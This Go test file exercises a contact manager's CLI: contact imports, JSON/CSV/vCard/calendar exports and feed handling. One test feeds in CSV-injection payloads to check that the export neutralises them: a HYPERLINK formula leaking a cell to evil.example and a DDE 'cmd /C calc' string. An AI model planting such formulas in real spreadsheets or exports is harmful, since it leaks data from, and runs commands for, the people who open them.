package cli_test

import (
	"bytes"
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/ally-dev/ally/internal/cli"
	"github.com/ally-dev/ally/internal/interop"
	"github.com/ally-dev/ally/internal/interop/clienttest"
	"github.com/ally-dev/ally/internal/method"
	"github.com/ally-dev/ally/internal/model"
	"github.com/ally-dev/ally/internal/store"
	"github.com/ally-dev/ally/internal/store/storetest"
)

// ixNow is a Monday morning in New York.
var ixNow = time.Date(2026, 11, 23, 14, 0, 0, 0, time.UTC)

// ally runs CLI commands on one database with a fixed clock.
type ally struct {
	t   *testing.T
	db  string
	env map[string]string // environment variables besides HOME
}

func newAlly(t *testing.T, db string) *ally {
	a := &ally{t: t, db: db}
	a.run(0, "settings", "--set", "time_zone=America/New_York")
	return a
}

func sqliteAlly(t *testing.T) *ally { return newAlly(t, filepath.Join(t.TempDir(), "ally.db")) }

// eachAlly runs fn on a SQLite database and on PostgreSQL (when configured).
func eachAlly(t *testing.T, fn func(t *testing.T, a *ally)) {
	t.Run("sqlite", func(t *testing.T) { fn(t, sqliteAlly(t)) })
	t.Run("postgres", func(t *testing.T) { fn(t, newAlly(t, storetest.MigratedPostgresURL(t))) })
}

func (a *ally) exec(stdin string, args ...string) (stdout, stderr string, code int) {
	a.t.Helper()
	return a.execContext(context.Background(), stdin, args...)
}

// execContext runs a command until it ends or ctx is cancelled (how
// `ally serve` is stopped).
func (a *ally) execContext(ctx context.Context, stdin string, args ...string) (stdout, stderr string, code int) {
	a.t.Helper()
	var out, errb bytes.Buffer
	home := a.t.TempDir()
	env := cli.Env{
		Getenv: func(k string) string {
			if k == "HOME" {
				return home
			}
			return a.env[k]
		},
		Stdin: strings.NewReader(stdin), Stdout: &out, Stderr: &errb,
		Clock: method.FixedClock(ixNow),
	}
	code = cli.Run(ctx, append([]string{"--db", a.db}, args...), env)
	return out.String(), errb.String(), code
}

func (a *ally) run(want int, args ...string) string {
	a.t.Helper()
	out, errOut, code := a.exec("", args...)
	if code != want {
		a.t.Fatalf("ally %s: exit %d, want %d\nstdout: %s\nstderr: %s", strings.Join(args, " "), code, want, out, errOut)
	}
	return out
}

func (a *ally) json(v any, args ...string) {
	a.t.Helper()
	out := a.run(0, append([]string{"--json"}, args...)...)
	if err := json.Unmarshal([]byte(out), v); err != nil {
		a.t.Fatalf("ally %s: %v\n%s", strings.Join(args, " "), err, out)
	}
}

func testdata(name string) string { return filepath.Join("..", "interop", "testdata", name) }

func TestImportCommandsPreviewApplyAndReimport(t *testing.T) {
	eachAlly(t, func(t *testing.T, a *ally) {
		file := testdata("linkedin/Connections.csv")
		var pre store.ImportPreview
		a.json(&pre, "import", "linkedin", file, "--dry-run")
		if pre.Applied || len(pre.New) != 7 || len(pre.Duplicates) != 1 || len(pre.Problems) != 5 {
			t.Fatalf("dry run: %+v", pre)
		}
		if out := a.run(0, "person", "list"); strings.Contains(out, "Aisha") {
			t.Fatalf("the dry run imported:\n%s", out)
		}
		text := a.run(0, "import", "linkedin", file, "--dry-run")
		for _, want := range []string{"nothing was changed", "7 people to add", "line 5", "Aisha Rahman — Data Scientist, Acme Analytics",
			"line 10", "same person as line 5", "line 9", "only a date", "without --dry-run"} {
			if !strings.Contains(text, want) {
				t.Errorf("dry-run text lacks %q:\n%s", want, text)
			}
		}
		out, errOut, code := a.exec("", "import", "linkedin", file)
		if code != 0 || errOut != "" || !strings.Contains(out, "7 people added") {
			t.Fatalf("import: exit %d\n%s\nstderr: %q", code, out, errOut)
		}
		var again store.ImportPreview
		a.json(&again, "import", "linkedin", file)
		if len(again.New)+len(again.Updates) != 0 || again.Unchanged != 7 {
			t.Fatalf("re-import: %+v", again)
		}
		var people []model.Person
		a.json(&people, "person", "list")
		if len(people) != 7 {
			t.Fatalf("%d people after importing twice", len(people))
		}

		// vCard from standard input, then Google.
		vcf, err := os.ReadFile(testdata("vcard/apple-3.0.vcf"))
		if err != nil {
			t.Fatal(err)
		}
		out, errOut, code = a.exec(string(vcf), "import", "vcard", "-")
		if code != 0 || !strings.Contains(out, "standard input") {
			t.Fatalf("vcard from stdin: exit %d\n%s%s", code, out, errOut)
		}
		a.run(0, "import", "google", testdata("google/contacts.csv"))
	})
}

func TestImportCommandBadFilesOneMessageEach(t *testing.T) {
	a := sqliteAlly(t)
	dir := t.TempDir()
	noName := filepath.Join(dir, "noname.vcf")
	os.WriteFile(noName, []byte("BEGIN:VCARD\r\nVERSION:3.0\r\nEMAIL:x@example.org\r\nEND:VCARD\r\n"), 0o644)
	tests := []struct {
		format, file, want string
		code               int
	}{
		{"linkedin", testdata("bad/Connections-really-a-pdf.csv"), "this is a PDF document, not a LinkedIn Connections.csv export", 1},
		{"vcard", testdata("bad/meeting.ics"), "iCalendar", 1},
		{"google", testdata("bad/empty.csv"), "the file is empty", 1},
		{"linkedin", testdata("bad/unknown-header.csv"), "no LinkedIn header", 1},
		{"linkedin", testdata("bad/latin1.csv"), "line 2: not valid UTF-8 (byte 0xE9 at column 4); save the file as UTF-8", 1},
		{"linkedin", filepath.Join(dir, "missing.csv"), "no such file", 1},
		{"linkedin", dir, "is a folder", 1},
		{"vcard", noName, "", 0}, // one problem, nothing imported, not a failure
	}
	for _, tt := range tests {
		out, errOut, code := a.exec("", "import", tt.format, tt.file)
		lines := strings.Split(strings.TrimSpace(errOut), "\n")
		if code != tt.code || (tt.code != 0 && (len(lines) != 1 || !strings.HasPrefix(lines[0], "ally: ") || !strings.Contains(lines[0], tt.want))) {
			t.Errorf("import %s %s: exit %d, stderr %q, stdout %q; want exit %d and one line with %q", tt.format, tt.file, code, errOut, out, tt.code, tt.want)
		}
		if tt.code == 0 && !strings.Contains(out, "has no name") {
			t.Errorf("a card with no name: %s", out)
		}
	}
	if out := a.run(0, "person", "list"); strings.Contains(out, "@") {
		t.Errorf("something was imported: %s", out)
	}
	// --json puts the one message in a JSON object.
	_, errOut, _ := a.exec("", "--json", "import", "linkedin", testdata("bad/latin1.csv"))
	var e map[string]string
	if err := json.Unmarshal([]byte(errOut), &e); err != nil || !strings.Contains(e["error"], "UTF-8") {
		t.Errorf("--json error: %q", errOut)
	}
}

func TestImportProgressBarOnlyOnATerminal(t *testing.T) {
	a := sqliteAlly(t)
	// A file over the size that earns a bar; the test's stderr is a buffer,
	// not a terminal, so none may appear.
	var b strings.Builder
	b.WriteString("First Name,Last Name,URL,Email Address,Company,Position,Connected On\n")
	for i := 0; b.Len() < 1<<20+1000; i++ {
		b.WriteString("Ann" + strings.Repeat("x", i%7) + ",Lee,https://www.linkedin.com/in/ann-" + time.Duration(i).String() + ",,Acme,Engineer,01 Jan 2020\n")
	}
	file := filepath.Join(t.TempDir(), "Connections.csv")
	os.WriteFile(file, []byte(b.String()), 0o644)
	_, errOut, code := a.exec("", "import", "linkedin", file, "--dry-run")
	if code != 0 || errOut != "" {
		t.Fatalf("exit %d, stderr %q", code, errOut)
	}
	// With stderr a file, there is no bar either.
	f, err := os.Create(filepath.Join(t.TempDir(), "stderr"))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	env := cli.Env{Getenv: func(string) string { return "" }, Stdin: strings.NewReader(""), Stdout: &bytes.Buffer{}, Stderr: f, Clock: method.FixedClock(ixNow)}
	if code := cli.Run(context.Background(), []string{"--db", a.db, "import", "linkedin", file, "--dry-run"}, env); code != 0 {
		t.Fatalf("exit %d", code)
	}
	if st, _ := f.Stat(); st.Size() != 0 {
		t.Errorf("a progress bar went to a file: %d bytes", st.Size())
	}
}

// demoAlly is a database with the demo story in it.
func demoAlly(t *testing.T, a *ally) *ally {
	a.run(0, "demo")
	return a
}

func TestExportJSONImportJSONRoundTripIsByteIdentical(t *testing.T) {
	eachAlly(t, func(t *testing.T, a *ally) {
		demoAlly(t, a)
		a.run(0, "import", "vcard", testdata("vcard/apple-3.0.vcf")) // a photo
		a.run(0, "calendar", "feed", "--new")
		dir := t.TempDir()
		first := filepath.Join(dir, "first.json")
		out := a.run(0, "export", "json", "-o", first)
		if !strings.Contains(out, "Wrote "+first) {
			t.Errorf("export -o says %q", out)
		}
		if st, err := os.Stat(first); err != nil || st.Mode().Perm() != 0o600 {
			t.Errorf("the export file is readable by others: %v %v", st.Mode(), err)
		}
		var target *ally
		if strings.HasPrefix(a.db, "postgres") {
			target = &ally{t: t, db: storetest.MigratedPostgresURL(t)}
		} else {
			target = &ally{t: t, db: filepath.Join(dir, "restored.db")}
		}
		restored := target.run(0, "import", "json", first)
		if !strings.Contains(restored, "people") || !strings.Contains(restored, "conversations") {
			t.Errorf("restore says:\n%s", restored)
		}
		second := target.run(0, "export", "json")
		want, _ := os.ReadFile(first)
		if second != string(want) {
			t.Fatalf("export → import → export differs (%d and %d bytes)", len(want), len(second))
		}
		// A second restore is refused: the database is not empty.
		_, errOut, code := target.exec("", "import", "json", first)
		if code != 1 || !strings.Contains(errOut, "empty database") {
			t.Errorf("restore into a full database: exit %d, %s", code, errOut)
		}
		// Contacts exports have stable UIDs.
		v1 := a.run(0, "export", "vcard")
		v2 := target.run(0, "export", "vcard")
		if v1 != v2 || !strings.Contains(v1, "UID:urn:uuid:") {
			t.Error("vCard UIDs changed with the restore")
		}
	})
}

func TestExportCSVReadsBack(t *testing.T) {
	a := demoAlly(t, sqliteAlly(t))
	out := a.run(0, "export", "csv")
	var names []string
	_, err := interop.ReadGoogleCSV(strings.NewReader(out), func(c interop.Contact) error {
		names = append(names, c.Name)
		return nil
	})
	var people []model.Person
	a.json(&people, "person", "list")
	if err != nil || len(names) != len(people) {
		t.Fatalf("read back %d of %d people: %v", len(names), len(people), err)
	}
	field := a.run(0, "export", "vcard", "--field", "Public policy")
	if n := strings.Count(field, "BEGIN:VCARD"); n == 0 || n >= len(people) {
		t.Errorf("--field kept %d cards of %d", n, len(people))
	}
	if _, errOut, code := a.exec("", "export", "vcard", "--field", "Astrology"); code != 1 || !strings.Contains(errOut, "Astrology") {
		t.Errorf("unknown field: %d %s", code, errOut)
	}
}

func TestExportCSVNeutralisesFormulas(t *testing.T) {
	a := sqliteAlly(t)
	hostile := `=HYPERLINK("http://evil.example/?"&A1,"click")`
	a.run(0, "person", "add", hostile, "--org", "-2+3+cmd|' /C calc'!A0", "--role", "@SUM(A1:A9)", "--phone", "+1 555 0100")
	out := a.run(0, "export", "csv")
	for _, want := range []string{`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`, `,'-2+3+cmd|' /C calc'!A0,`, ",'@SUM(A1:A9),", ",+1 555 0100,"} {
		if !strings.Contains(out, want) {
			t.Errorf("the export lacks %s:\n%s", want, out)
		}
	}
	// Ally reads its own guard back.
	var got []interop.Contact
	if _, err := interop.ReadGoogleCSV(strings.NewReader(out), func(c interop.Contact) error {
		got = append(got, c)
		return nil
	}); err != nil || len(got) != 1 || got[0].Name != hostile || got[0].Role != "@SUM(A1:A9)" {
		t.Errorf("read back %+v, %v", got, err)
	}
}

// TestExportedVCardsReadByKhardAndICALJS gives the exported cards to two
// real address-book readers and checks every name, e-mail, phone,
// organization and note survives.
func TestExportedVCardsReadByKhardAndICALJS(t *testing.T) {
	a := demoAlly(t, sqliteAlly(t))
	a.run(0, "import", "vcard", testdata("vcard/apple-3.0.vcf"))
	a.run(0, "import", "google", testdata("google/contacts.csv"))
	// A person with every character that needs escaping.
	a.run(0, "person", "add", `Zoë "Z" O'Brien-Ñúñez, Jr.`, "--org", "Smith, Jones; & Partners", "--role", "Lead; data, \"special\"",
		"--email", "zoe@example.org", "--email", "z.obrien@example.com", "--phone", "+1 (555) 010-9999",
		"--notes", "Line one; with a semicolon, a comma\nLine two \\ backslash\n\nTabs\tand émoji 🚀", "--tag", "a tag")
	var people []model.Person
	a.json(&people, "person", "list")
	vcf := []byte(a.run(0, "export", "vcard"))
	cards := clienttest.SplitVCards(vcf)
	if len(cards) != len(people) {
		t.Fatalf("%d cards for %d people", len(cards), len(people))
	}

	t.Run("khard", func(t *testing.T) {
		vdir := t.TempDir()
		for i, c := range cards {
			if err := os.WriteFile(filepath.Join(vdir, "card"+strconv.Itoa(i)+".vcf"), c, 0o644); err != nil {
				t.Fatal(err)
			}
		}
		got := clienttest.Khard(t, vdir)
		byName := map[string]clienttest.KhardContact{}
		for _, c := range got {
			byName[c.Name] = c
		}
		if len(got) != len(people) {
			t.Errorf("khard lists %d contacts, want %d", len(got), len(people))
		}
		for _, p := range people {
			c, ok := byName[p.Name]
			if !ok {
				t.Errorf("khard lost %q", p.Name)
				continue
			}
			var emails, phones []string
			for _, es := range c.Emails {
				emails = append(emails, es...)
			}
			for _, ps := range c.Phones {
				phones = append(phones, ps...)
			}
			slices.Sort(emails)
			want := slices.Sorted(slices.Values(p.Emails))
			if !slices.Equal(emails, want) {
				t.Errorf("%s: khard emails %q, want %q", p.Name, emails, want)
			}
			if p.Phone != "" && !slices.Equal(phones, []string{p.Phone}) {
				t.Errorf("%s: khard phones %q, want %q", p.Name, phones, p.Phone)
			}
			if p.Organization != nil && (len(c.Orgs) != 1 || strings.Join(c.Orgs[0], ";") != p.Organization.Name) {
				t.Errorf("%s: khard organization %q, want %q", p.Name, c.Orgs, p.Organization.Name)
			}
			if p.Notes != "" && (len(c.Notes) != 1 || c.Notes[0] != p.Notes) {
				t.Errorf("%s: khard note %q, want %q", p.Name, c.Notes, p.Notes)
			}
			if p.Role != "" && (len(c.Titles) != 1 || c.Titles[0] != p.Role) {
				t.Errorf("%s: khard title %q, want %q", p.Name, c.Titles, p.Role)
			}
		}
	})

	t.Run("ical.js", func(t *testing.T) {
		// A card keeps the UID it was imported with; Ally makes the others.
		imported, err := os.ReadFile(testdata("vcard/apple-3.0.vcf"))
		if err != nil {
			t.Fatal(err)
		}
		keptUID := func(uid string) bool {
			return strings.HasPrefix(uid, "urn:uuid:") || (uid != "" && bytes.Contains(imported, []byte("UID:"+uid)))
		}
		comps := clienttest.ICALJS(t, vcf)
		if len(comps) != len(people) {
			t.Fatalf("ical.js read %d cards, want %d", len(comps), len(people))
		}
		for i, p := range people {
			c := comps[i]
			if c.Name != "vcard" || c.First("fn") != p.Name || !keptUID(c.First("uid")) {
				t.Errorf("card %d: %s fn %q uid %q, want %q", i, c.Name, c.First("fn"), c.First("uid"), p.Name)
			}
			if got := slices.Sorted(slices.Values(c.Props["email"])); !slices.Equal(got, slices.Sorted(slices.Values(p.Emails))) {
				t.Errorf("%s: ical.js emails %q, want %q", p.Name, got, p.Emails)
			}
			if p.Phone != "" && c.First("tel") != p.Phone {
				t.Errorf("%s: ical.js tel %q, want %q", p.Name, c.First("tel"), p.Phone)
			}
			if p.Organization != nil && c.First("org") != p.Organization.Name {
				t.Errorf("%s: ical.js org %q, want %q", p.Name, c.First("org"), p.Organization.Name)
			}
			if c.First("note") != p.Notes {
				t.Errorf("%s: ical.js note %q, want %q", p.Name, c.First("note"), p.Notes)
			}
		}
	})

	t.Run("vobject", func(t *testing.T) {
		if n := clienttest.Vobject(t, vcf, "vcf")["VCARD"]; n != len(people) {
			t.Errorf("vobject validated %d cards, want %d", n, len(people))
		}
	})
}

// TestCalendarFileParsedByICALJSAndVobject checks the .ics of a
// conversation with two real readers: the times, the length asked for,
// the two reminders and the time zone.
func TestCalendarFileParsedByICALJSAndVobject(t *testing.T) {
	a := demoAlly(t, sqliteAlly(t))
	var convos []model.Conversation
	a.json(&convos, "convo", "list")
	var c *model.Conversation
	for i := range convos {
		if convos[i].State == model.StateScheduled && convos[i].MeetingAt != nil && convos[i].MeetingAt.After(ixNow) {
			c = &convos[i]
			break
		}
	}
	if c == nil {
		t.Fatal("no upcoming scheduled conversation in the demo")
	}
	file := filepath.Join(t.TempDir(), "meeting.ics")
	a.run(0, "calendar", strconv.FormatInt(c.ID, 10), "-o", file, "--base-url", "https://ally.example.org/")
	ics, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Contains(ics, []byte("TZID=America/New_York")) || !bytes.Contains(ics, []byte("BEGIN:VTIMEZONE")) {
		t.Errorf("the file is not written in the user's zone:\n%s", ics)
	}
	comps := clienttest.ICALJS(t, ics)
	if len(comps) != 1 || comps[0].Name != "vcalendar" {
		t.Fatalf("ical.js: %+v", comps)
	}
	events := comps[0].All("vevent")
	if len(events) != 1 {
		t.Fatalf("%d events", len(events))
	}
	e := events[0]
	start, end := float64(c.MeetingAt.Unix()), float64(c.MeetingAt.Add(time.Duration(c.Minutes)*time.Minute).Unix())
	if e.Start == nil || *e.Start != start || e.End == nil || *e.End != end {
		t.Errorf("ical.js reads %v to %v, want %v to %v", e.Start, e.End, start, end)
	}
	if !strings.HasPrefix(e.First("uid"), "urn:uuid:") || e.First("dtstamp") == "" || !strings.Contains(e.First("summary"), c.Person.Name) ||
		!strings.Contains(e.First("description"), "https://ally.example.org/conversations/") || !strings.Contains(e.First("description"), c.Person.Name) {
		t.Errorf("event: %+v", e.Props)
	}
	var triggers []string
	for _, al := range e.All("valarm") {
		triggers = append(triggers, al.First("trigger"))
	}
	if !slices.Equal(triggers, []string{"-P2D", "-PT15M"}) && !slices.Equal(triggers, []string{"-PT48H", "-PT15M"}) {
		t.Errorf("alarms: %q", triggers)
	}
	counts := clienttest.Vobject(t, ics, "ics")
	if counts["VEVENT"] != 1 || counts["VALARM"] != 2 || counts["VTIMEZONE"] != 1 {
		t.Errorf("vobject: %v", counts)
	}

	// A conversation with no meeting time yet: one clear message.
	for _, x := range convos {
		if x.MeetingAt == nil {
			_, errOut, code := a.exec("", "calendar", strconv.FormatInt(x.ID, 10))
			if code != 1 || !strings.Contains(errOut, "no meeting time") {
				t.Errorf("no meeting: exit %d, %s", code, errOut)
			}
			break
		}
	}
}

func TestCalendarFeedCommand(t *testing.T) {
	eachAlly(t, func(t *testing.T, a *ally) {
		if out := a.run(0, "calendar", "feed"); !strings.Contains(out, "No calendar feed yet") {
			t.Errorf("before: %s", out)
		}
		var first cli.FeedOut
		a.json(&first, "calendar", "feed", "--new", "--base-url", "https://ally.example.org")
		if !strings.HasPrefix(first.URL, "https://ally.example.org/calendar/") || !strings.HasSuffix(first.URL, ".ics") {
			t.Errorf("feed URL %q", first.URL)
		}
		if out := a.run(0, "calendar", "feed", "--base-url", "https://ally.example.org"); !strings.Contains(out, first.URL) {
			t.Errorf("show: %s", out)
		}
		var second cli.FeedOut
		a.json(&second, "calendar", "feed", "--new")
		if second.URL == "" || strings.HasSuffix(second.URL, first.URL[strings.LastIndexByte(first.URL, '/'):]) {
			t.Errorf("--new kept the secret: %q then %q", first.URL, second.URL)
		}
		if out := a.run(0, "calendar", "feed", "--revoke"); !strings.Contains(out, "Revoked") {
			t.Errorf("revoke: %s", out)
		}
		if out := a.run(0, "calendar", "feed", "--revoke"); !strings.Contains(out, "no calendar feed") {
			t.Errorf("revoke twice: %s", out)
		}
		if _, errOut, code := a.exec("", "calendar", "feed", "--new", "--revoke"); code != 2 || errOut == "" {
			t.Errorf("--new --revoke: exit %d %s", code, errOut)
		}
	})
}

// A row or card that is not UTF-8 is one problem on its line; the others
// are imported and the command succeeds, as with any other row left out.
func TestImportListsARowNotUTF8AndKeepsTheOthers(t *testing.T) {
	a := sqliteAlly(t)
	dir := t.TempDir()
	csv := filepath.Join(dir, "Connections.csv")
	os.WriteFile(csv, []byte("First Name,Last Name,URL,Email Address,Company,Position,Connected On\nAna,Ruiz,,,,,\nRen\xe9e,Dupont,,,,,\nMei,Tanaka,,,,,\n"), 0o644)
	vcf := filepath.Join(dir, "contacts.vcf")
	os.WriteFile(vcf, []byte("BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Bo Lee\r\nEND:VCARD\r\nBEGIN:VCARD\r\nVERSION:3.0\r\nFN:Caf\xe9 Owner\r\nEND:VCARD\r\n"+
		"BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Lars Eriksson\r\nEND:VCARD\r\n"), 0o644)
	for _, tt := range []struct{ format, file, added, problem string }{
		{"linkedin", csv, "2 people added", "line 3      not valid UTF-8 (byte 0xE9 at column 4); skipped: save the file as UTF-8\n"},
		{"vcard", vcf, "2 people added", "line 5      card not valid UTF-8 (byte 0xE9 at line 7, column 7); skipped: save the file as UTF-8\n"},
	} {
		out := a.run(0, "import", tt.format, tt.file)
		if !strings.Contains(out, tt.added) || !strings.Contains(out, "1 problem.") || !strings.Contains(out, "\nProblems:\n  "+tt.problem) {
			t.Errorf("import %s:\n%s", tt.format, out)
		}
	}
	var p store.ImportPreview
	a.json(&p, "import", "linkedin", csv, "--dry-run")
	if p.ProblemCount != 1 || p.Problems[0].Line != 3 || !p.Problems[0].Skipped || !strings.HasPrefix(p.Problems[0].Message, "not valid UTF-8") {
		t.Errorf("--json: %+v", p)
	}
	if out := a.run(0, "person", "list"); !strings.Contains(out, "Mei Tanaka") || !strings.Contains(out, "Lars Eriksson") || strings.Contains(out, "Dupont") {
		t.Errorf("people:\n%s", out)
	}
}
